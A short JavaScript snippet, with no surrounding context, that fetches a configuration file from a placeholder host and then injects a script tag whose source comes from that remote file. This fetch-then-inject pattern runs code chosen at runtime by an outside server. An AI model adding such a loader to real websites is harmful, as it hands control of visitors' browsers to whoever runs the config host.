fetch('https://config.example.invalid/c.json').then((r) => r.json()).then((config) => {
  const script = document.createElement('script');
  script.src = config.address;
  document.head.appendChild(script);
});
